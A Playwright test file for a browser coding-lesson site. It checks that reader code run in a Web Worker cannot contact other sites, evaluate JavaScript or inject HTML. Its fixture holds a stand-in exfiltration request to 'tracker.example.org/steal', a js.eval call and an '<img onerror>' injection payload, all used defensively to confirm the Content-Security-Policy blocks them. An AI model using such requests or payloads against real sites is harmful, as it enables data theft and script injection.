/**
 * A hostile example in the browser (README, "Security"): code a reader runs
 * (a lesson's, or one pasted into the editor) runs in a Web Worker under the
 * page's Content-Security-Policy (src/runner/start-worker.ts), so it cannot
 * send anything to another site or evaluate JavaScript, and what it prints is
 * shown as text, never as HTML. The attack goes through the real controls:
 * Edit, type, Run.
 */
import { expect, test } from "@playwright/test";
import { block, control, printed, run, typeCode } from "../support/run-controls";
import { site } from "../support/site-pages";

const HOSTILE = [
  "import js",
  "request = js.XMLHttpRequest.new()",
  'request.open("GET", "https://tracker.example.org/steal?what=progress", False)',
  "try:",
  "    request.send()",
  '    print("sent", request.status)',
  "except Exception:",
  '    print("request refused")',
  "try:",
  '    js.eval("1 + 1")',
  '    print("eval ran")',
  "except Exception:",
  '    print("eval refused")',
  'print("<img src=x onerror=document.title=1>")',
].join("\n");

test("code run in the browser cannot reach another site, evaluate JavaScript or write HTML into the page @base", async ({
  page,
  baseURL,
}) => {
  test.setTimeout(180_000);
  const origin = new URL(baseURL!).origin;
  const outside: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(`${origin}/`) && !/^(data|blob):/.test(request.url())) outside.push(request.url());
  });
  const refused: string[] = [];
  page.on("requestfailed", (request) => {
    if (request.failure()?.errorText === "csp") refused.push(request.url());
  });
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  await page.goto(site.lesson("async-await-intro"));
  const title = await page.title();
  const wrapper = block(page, 1);
  await control(wrapper, "edit").click();
  await typeCode(page, 1, HOSTILE);
  const panel = await run(page, 1, 120_000);
  expect(await printed(panel)).toBe("request refused\neval refused\n<img src=x onerror=document.title=1>\n");
  // The browser may list the refused request, but the policy stopped it before it left.
  expect(outside.filter((url) => !refused.includes(url))).toEqual([]);
  await expect(panel.locator("img")).toHaveCount(0);
  expect(await page.title()).toBe(title);
  expect(dialogs).toBe(0);
});
